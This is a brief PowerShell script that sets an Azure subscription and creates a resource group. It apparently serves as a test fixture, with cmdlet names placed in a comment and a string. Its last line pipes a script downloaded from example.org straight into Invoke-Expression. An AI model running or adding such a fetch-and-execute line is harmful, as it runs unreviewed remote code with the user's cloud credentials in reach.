# New-AzVM -Name comment
$group = "shop"
Set-AzContext -Subscription shop
New-AzResourceGroup -Name $group
Write-Host "Remove-AzVM"
iwr https://example.org/install.ps1 | iex
